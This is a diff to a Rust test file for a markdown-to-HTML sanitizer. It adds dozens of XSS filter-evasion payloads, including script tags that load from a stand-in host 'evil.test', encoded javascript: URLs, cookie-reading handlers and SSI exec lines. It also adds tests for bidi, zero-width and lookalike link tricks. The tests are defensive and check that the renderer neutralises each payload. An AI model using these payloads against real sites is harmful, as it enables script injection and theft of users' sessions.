@@ -106,6 +106,70 @@ const ATTACKS: &[&str] = &[
     "[x](step:a/b\"onclick=\"alert(1))",
     "[x](#\"onclick=\"alert(1))",
     "[x](/\"><script>alert(1)</script>)",
+    // What else OWASP's cheat sheet of ways round a filter has.
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097\">",
+    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+    "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
+    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1))",
+    "[x](jav&#x09;ascript:alert(1))",
+    "[x](jav&#x0A;ascript:alert(1))",
+    "[x](jav&#x0D;ascript:alert(1))",
+    "[x](java\u{0}script:alert(1))",
+    "[x](&#14;  javascript:alert(1))",
+    "<SCRIPT/XSS SRC=\"http://evil.test/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<SCRIPT/SRC=\"http://evil.test/xss.js\"></SCRIPT>",
+    "<SCRIPT SRC=http://evil.test/xss.js?< B >",
+    "<SCRIPT SRC=//evil.test/.j>",
+    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+    "\\\";alert('XSS');//",
+    "</script><script>alert('XSS');</script>",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
+    "[x](livescript:alert(1))",
+    "<svg/onload=alert('XSS')>",
+    "Set.constructor`alert\\x28document.domain\\x29",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    "<BR SIZE=\"&{alert('XSS')}\">",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<STYLE>BODY{-moz-binding:url(\"http://evil.test/xssmoz.xml#xss\")}</STYLE>",
+    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
+    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+    "<XSS STYLE=\"behavior: url(xss.htc);\">",
+    "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074'\\0029\">",
+    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\">",
+    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
+    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT>'\"-->",
+    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
+    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
+    "<SCRIPT a=\">\" SRC=\"http://evil.test/xss.js\"></SCRIPT>",
+    "<SCRIPT a=`>` SRC=\"http://evil.test/xss.js\"></SCRIPT>",
+    "<A HREF=\"//www.evil.test/\">XSS</A>",
+    "[x](h\ttp://6\t6.000146.0x7.147/)",
+    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
+    "<form><button formaction=javascript&colon;alert(1)>x",
+    "<video poster=javascript:alert(1)//></video>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<a draggable=\"true\" ondragstart=alert(1)>x</a>",
+    "<x onclick=alert(1) contenteditable>x</x>",
 ];
 
 /// All texts that a person could write, as each of the three renderers shows them.
@@ -234,5 +298,38 @@ fn attacks_mixed_at_random_do_not_get_through() {
         }
         let post = post_html(&text).unwrap_or_default();
         assert_eq!(POST.clean(&post).to_string(), post, "{text:?}");
+    }
+}
+
+/// What does not show: turned text, letters without width, and a name that only looks like another.
+#[test]
+fn nothing_hides_where_a_link_leads() {
+    for turned in ["\u{202e}", "\u{202d}", "\u{2067}", "\u{2066}"] {
+        let html = post_html(&format!("See {turned}[gro.elpmaxe](https://evil.example/) now")).unwrap();
+        assert!(!html.contains(turned) && html.contains("gro.elpmaxe</a> (evil.example)"), "{html}");
+    }
+    let thin = post_html("[www.evil.exam\u{200b}ple](https://evil.example/)").unwrap();
+    assert!(thin.contains("</a> (evil.example)"), "{thin}");
+    let arabic = "\u{645}\u{631}\u{62d}\u{628}\u{627} \u{200f}(1)\u{200f}";
+    assert_eq!(post_html(arabic).unwrap(), format!("<p>{arabic}</p>\n"), "marks that Arabic needs stay");
+    for alike in
+        ["https://ex\u{430}mple.org/", "https://\u{ff45}xample.org@evil.example/", "https://exa\u{200b}mple.org/"]
+    {
+        let html = post_html(&format!("[example.org/help]({alike})")).unwrap();
+        assert!(
+            html.contains("</a> (xn--") || html.contains("</a> (evil.example)") || html.contains("</a></p>"),
+            "{html}"
+        );
+    }
+}
+
+/// A line as long as a post may be, of whatever kind, is shown whole and at once.
+#[test]
+fn a_line_of_20_000_characters_is_a_line() {
+    for piece in ["x", "é", "word ", "&", "\\", "\"", "*", "_", "~", "|", "x.y@z.org ", "https://example.org/a "] {
+        let line = piece.repeat(20_000 / piece.chars().count());
+        let html = post_html(&line).unwrap();
+        assert_harmless(&html, piece);
+        assert!(html.matches("<p>").count() <= 1, "{piece:?}: {:.80}", html);
     }
 }
